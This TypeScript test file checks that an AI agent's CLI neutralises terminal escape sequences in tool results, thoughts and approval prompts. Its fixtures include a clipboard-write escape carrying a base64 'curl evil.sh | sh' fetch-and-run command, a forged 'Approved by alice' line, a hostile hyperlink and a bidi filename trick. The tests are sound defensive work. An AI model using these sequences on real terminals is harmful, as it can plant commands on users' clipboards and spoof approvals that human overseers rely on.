import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { WatchEvent } from '../../src/client/agent-client';
import { renderPendingApproval } from '../../src/client/decisions/render-pending-approval';
import { renderStep } from '../../src/cli/render/render-step';
import { terminalSafe } from '../../src/cli/render/terminal-safe';
import { printFollowed } from '../../src/cli/reading/watch-printer';
import type { AgentResult, ReasoningStep } from '../../src/domain';

const ESC = '\x1b';
/** Erase the line, move up, an OSC 52 clipboard write, and a forged line after a carriage return. */
const ATTACK = `done${ESC}[2K${ESC}[1A${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\rApproved by alice`;

/** Nothing a terminal would act on: no ESC, no C0 but \n and \t, no C1, no bidi controls. */
const INERT = /^[^\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]*$/;

describe('terminalSafe', () => {
  it('makes the attack inert: no erase, no cursor move, no clipboard write, no return to the line start', () => {
    const safe = terminalSafe(ATTACK);
    expect(safe).toMatch(INERT);
    expect(safe).not.toContain('52;c;');
    expect(safe).toBe('done\uFFFDApproved by alice');
  });

  it.each([
    ['CSI with parameters', `a${ESC}[38;5;196mb`, 'ab'],
    ['8-bit CSI', 'a\x9b2Jb', 'ab'],
    ['OSC ended by ST', `a${ESC}]0;title${ESC}\\b`, 'ab'],
    ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`, 'click'],
    ['unterminated OSC', `a${ESC}]52;c;AAAA`, 'a'],
    ['DCS', `a${ESC}Pq#0;2;0;0;0${ESC}\\b`, 'ab'],
    ['APC', `a${ESC}_payload${ESC}\\b`, 'ab'],
    ['two-character escape', `a${ESC}cb${ESC}7c`, 'abc'],
    ['trailing lone ESC', `a${ESC}`, 'a'],
    ['bell and backspace', 'a\x07\x08b', 'a\uFFFD\uFFFDb'],
    ['bidi override', 'file\u202Etxt.exe', 'file\uFFFDtxt.exe'],
    ['bidi isolate', 'a\u2066b\u2069', 'a\uFFFDb\uFFFD'],
    ['newline and tab kept', 'a\n\tb', 'a\n\tb'],
    ['plain text and unicode kept', 'héllo — 世界 ✓', 'héllo — 世界 ✓'],
  ])('%s', (_name, input, expected) => {
    expect(terminalSafe(input)).toBe(expected);
  });

  it('keeps only the colour codes the CLI writes itself', () => {
    expect(terminalSafe(`${ESC}[32mok${ESC}[0m`)).toBe(`${ESC}[32mok${ESC}[0m`);
    expect(terminalSafe(`${ESC}[8mhidden${ESC}[0m`)).toBe(`hidden${ESC}[0m`);
  });

  it('is inert on every mix of control bytes and printable text', () => {
    const alphabet = [
      ESC,
      '[',
      ']',
      'P',
      '_',
      '\\',
      '\x07',
      '\x9b',
      '\x9c',
      '\x9d',
      '\r',
      '\b',
      '\u202e',
      '2',
      'K',
      ';',
      'a',
      '\n',
    ];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let i = 0; i < 2_000; i++) {
      const text = Array.from({ length: 1 + (next() % 24) }, () => alphabet[next() % alphabet.length]).join('');
      const safe = terminalSafe(text);
      expect(safe.replace(/\x1b\[(?:0|2|31|32|33|36)m/g, '')).toMatch(INERT);
    }
  });

  it('is linear: a megabyte of escape starts comes back at once', () => {
    const started = performance.now();
    terminalSafe(`${ESC}]`.repeat(300_000) + `${ESC}[`.repeat(200_000));
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

const at = '2026-01-01T00:00:00.000Z';
const resultStep: ReasoningStep = {
  stepId: 's2',
  stepNumber: 2,
  timestamp: at,
  iteration: 1,
  visibility: { level: 'full' },
  type: 'tool_result',
  toolResult: { correlationId: 'c1', success: true, result: ATTACK, durationMs: 1 },
};
const thoughtStep: ReasoningStep = {
  stepId: 's1',
  stepNumber: 1,
  timestamp: at,
  iteration: 1,
  visibility: { level: 'full' },
  type: 'thinking',
  thought: ATTACK,
};

describe('terminal paths', () => {
  it('watch prints a hostile tool result and thought inert', async () => {
    async function* events(): AsyncGenerator<WatchEvent, AgentResult> {
      yield { type: 'live', activityId: 'a1', attempt: 1, kind: 'text', text: ATTACK };
      yield { type: 'step', step: thoughtStep };
      yield { type: 'step', step: resultStep };
      return {} as AgentResult;
    }
    const out = new PassThrough();
    let printed = '';
    out.on('data', (d: Buffer) => (printed += d.toString()));
    await printFollowed(events(), out);
    expect(printed).toContain('Approved by alice');
    for (const line of printed.split('\n')) expect(line.replace(/\x1b\[(?:0|2|31|32|33|36)m/g, '')).toMatch(INERT);
    expect(printed).not.toContain('52;c;');
    // The forged text stays on the line of the result it came in, after its real start.
    expect(printed).toMatch(/Observation\s+done.?Approved by alice/u);
  });

  it('a pending approval whose names and reason carry escapes is printed inert', () => {
    const text = terminalSafe(
      renderPendingApproval({
        callId: `c1${ESC}[2K`,
        stepId: 's1',
        toolName: `deploy${ESC}]52;c;AAAA\x07`,
        arguments: { note: ATTACK },
        argumentsHash: 'h',
        reason: `rule\rApproved by alice`,
        approverRoles: [],
        runId: 'r',
        requestedAt: at,
        expiresAt: at,
        status: 'pending',
      }),
    );
    for (const line of text.split('\n')) expect(line).toMatch(INERT);
    expect(text).toContain('why: rule\uFFFDApproved by alice');
  });

  it('renderStep alone still carries the raw text: the paths above are what make it safe', () => {
    // A negative control: without terminalSafe the escape sequences would reach the terminal.
    expect(renderStep(resultStep)).not.toMatch(INERT);
  });
});
